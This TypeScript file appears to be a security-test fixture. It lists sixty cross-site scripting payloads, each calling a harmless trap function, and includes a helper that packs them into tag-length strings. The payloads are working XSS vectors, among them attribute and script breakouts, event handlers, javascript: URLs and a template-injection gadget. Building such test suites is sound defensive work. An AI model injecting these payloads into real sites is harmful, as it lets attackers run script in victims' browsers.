/** Calls the trap. Short, because a tag has at most fifty characters. */
const RUN = '_x()';

/**
 * Sixty texts that run a script where a page treats text as markup, as a URL or as code. They use elements, event
 * handlers and URLs; they break out of attributes, scripts, styles, comments and templates; and they use forms that
 * sanitizers often miss. None contains a comma, because commas separate tags.
 */
export const payloads: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=data:,${RUN}></script>`,
  `<script>${RUN}//`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<IMG SRC=x ONERROR=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror='${RUN}'>`,
  `<img src onerror=${RUN} `,
  `<img srcset=x onerror=${RUN}>`,
  `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN}>`,
  `<svg><a href=javascript:${RUN}><text>x`,
  `<svg><set onbegin=${RUN}>`,
  `<math><a href=javascript:${RUN}>x`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<video src=x onerror=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<button autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<iframe src=javascript:parent.${RUN}>`,
  `<iframe srcdoc=<script>parent.${RUN}//>`,
  `<iframe onload=${RUN}>`,
  `<object data=javascript:${RUN}>`,
  `<embed src=javascript:${RUN}>`,
  `<a href=javascript:${RUN} autofocus>x</a>`,
  `<form><button formaction=javascript:${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<meta http-equiv=refresh content=0;//x.invalid>`,
  `<base href=javascript:${RUN}//>`,
  `<div style=animation:x onanimationend=${RUN}>`,
  `<p onmouseover=${RUN}>x`,
  `<template><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" autofocus onfocus=${RUN} x="`,
  `' autofocus onfocus=${RUN} x='`,
  `--><img src=x onerror=${RUN}>`,
  `</title><img src=x onerror=${RUN}>`,
  `</textarea><svg onload=${RUN}>`,
  `</style><svg onload=${RUN}>`,
  `<noscript><p id="</noscript><svg onload=${RUN}>`,
  `javascript:${RUN}`,
  ` jAvAsCrIpT:${RUN}`,
  `data:text/html;<script>${RUN}</script>`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `&lt;img src=x onerror=${RUN}&gt;`,
];

/** Packs the payloads into as few texts as fit: each has at most `length` characters and ends with `mark`. */
export const packPayloads = (length: number, mark: string): readonly string[] => {
  const texts: string[] = [];
  for (const payload of payloads) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + payload.length + mark.length <= length)
      texts[texts.length - 1] = `${last} ${payload}`;
    else texts.push(payload.trim());
  }
  const marked = texts.map((text) => text + mark);
  const long = marked.find((text) => text.length > length);
  if (long !== undefined) throw new Error(`${long} does not fit into ${length} characters`);
  return marked;
};
